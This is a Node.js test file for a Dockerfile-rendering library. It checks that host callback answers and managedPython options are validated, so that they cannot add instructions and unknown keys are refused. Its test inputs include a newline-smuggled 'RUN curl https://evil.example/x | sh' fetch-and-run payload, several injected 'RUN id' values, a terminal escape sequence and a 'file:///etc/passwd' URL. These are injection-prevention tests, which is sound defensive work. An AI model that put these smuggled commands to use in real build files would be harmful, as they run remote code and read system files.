// What a host answers and what options say never change what the rendered Dockerfile means
// (issue #13, hole 6 and strict host answers): `inspectImage`, `lookupDerived` and
// `managedPython` values are checked in the core, and host answers with an unknown key are an
// error naming the key instead of being silently ignored.
import assert from "node:assert/strict";
import { test } from "node:test";
import { ApothicError, Image, memoryHost } from "@apothic/image";
import { apothicErrors } from "../harness/errors.mjs";

const { failure, rejects } = apothicErrors(ApothicError);

const FILES = { "proj/a.py": "print(1)\n", "app.py": "print(2)\n" };
const memory = memoryHost(FILES);
const fromRegistry = Image.fromRegistry("debian:bookworm").runCommands(["true"]);

/** A host like `memory`, with some callbacks replaced or added. */
const host = (overrides) => ({
  readFile: (p) => memory.readFile(p),
  readDir: (p) => memory.readDir(p),
  ...overrides,
});

test("inspectImage cannot add instructions through arch, libc or pythonVersion", async () => {
  const injected = "amd64\nRUN curl https://evil.example/x | sh #";
  for (const [field, answer] of [
    ["arch", { arch: injected }],
    ["arch", { arch: "sparc" }],
    ["libc", { libc: "glibc\nRUN id" }],
    ["pythonVersion", { pythonPath: "/usr/bin/python3", pythonVersion: "3.12\nRUN id" }],
    ["pythonPath", { pythonPath: "bin/python3" }],
    ["digest", { digest: "sha256:nothex" }],
    ["os", { os: "linux\u001b]52;c;aGk=\u0007" }],
  ]) {
    await rejects(fromRegistry.resolve(host({ inspectImage: () => answer })), "HOST_CALLBACK_FAILED", "inspectImage", field);
  }
});

test("inspectImage answers with a misspelt key are refused, naming the key", async () => {
  // `pythonpath` instead of `pythonPath` used to be ignored: a managed CPython was installed on
  // an image that has Python.
  await rejects(
    fromRegistry.resolve(host({ inspectImage: () => ({ pythonpath: "/usr/bin/python3", pythonVersion: "3.12.7" }) })),
    "HOST_CALLBACK_FAILED",
    'unknown key "pythonpath"',
    "pythonPath",
  );
  await rejects(fromRegistry.resolve(host({ inspectImage: () => ({ arch: "amd64", [`k${"x".repeat(5000)}`]: 1 }) })), "HOST_CALLBACK_FAILED", "unknown key of 5001 characters");
  const keysThrow = new Proxy({}, { ownKeys() { throw new Error("trap"); } });
  await rejects(fromRegistry.resolve(host({ inspectImage: () => keysThrow })), "HOST_CALLBACK_FAILED", "keys cannot be listed");
  // The keys it knows still work, aliases normalised.
  const resolution = await fromRegistry.resolve(host({ inspectImage: () => ({ arch: "arm64", libc: "musl", os: "linux" }) }));
  assert.equal(resolution.plan.python.kind, "managed");
  assert.equal(resolution.plan.python.arch, "aarch64");
  assert.equal(resolution.plan.python.libc, "musl");
  assert.equal(resolution.dockerfile.split("\n").filter((l) => l.startsWith("RUN ")).length, 2);
  const own = await fromRegistry.resolve(host({ inspectImage: () => ({ pythonPath: "/usr/bin/python3", pythonVersion: "3.12.7" }) }));
  assert.deepEqual(own.plan.python, { kind: "image", path: "/usr/bin/python3", version: "3.12.7" });
});

test("resolvePythonModule and readDir answers with unknown keys are refused", async () => {
  const withModule = Image.debianSlim().copyLocalPythonSource("app");
  await rejects(
    withModule.resolve(host({ resolvePythonModule: () => ({ path: "app.py", isPackage: false, ispackage: true }) })),
    "HOST_CALLBACK_FAILED",
    "resolvePythonModule",
    '"ispackage"',
  );
  const withDir = Image.debianSlim().copyLocalDir("proj", "/app");
  await rejects(
    withDir.resolve(host({ readDir: (p) => (p === "proj" ? [{ name: "a.py", kind: "file", size: 9, mode: 0o644, szie: 9 }] : memory.readDir(p)) })),
    "HOST_CALLBACK_FAILED",
    "readDir",
    "the entry [0]",
    '"szie"',
  );
  // memoryHost's own answers pass.
  await withDir.resolve(memory);
});

test("lookupDerived must answer an image reference", async () => {
  for (const answer of ["registry.example/app:1\nRUN id", "", "Bad/Name", "app@sha256:123"]) {
    await rejects(fromRegistry.resolve(host({ lookupDerived: () => answer })), "HOST_CALLBACK_FAILED", "lookupDerived", "not an image reference");
  }
  const resolution = await fromRegistry.resolve(host({ lookupDerived: () => "registry.example/derived:abc" }));
  assert.equal(resolution.plan.image, "registry.example/derived:abc");
});

test("managedPython options cannot add instructions", async () => {
  for (const [field, value] of [
    ["version", "3.12.11\nRUN id"],
    ["release", "20250723 /tmp/x\nRUN id #"],
    ["urlTemplate", "https://e.example/x.tgz /tmp/y\nRUN id #"],
    ["urlTemplate", "file:///etc/passwd"],
  ]) {
    await failure(fromRegistry.resolve(memory, { managedPython: { [field]: value } }), { code: "INVALID_ARGUMENT", argument: `options.managedPython.${field}` });
  }
});
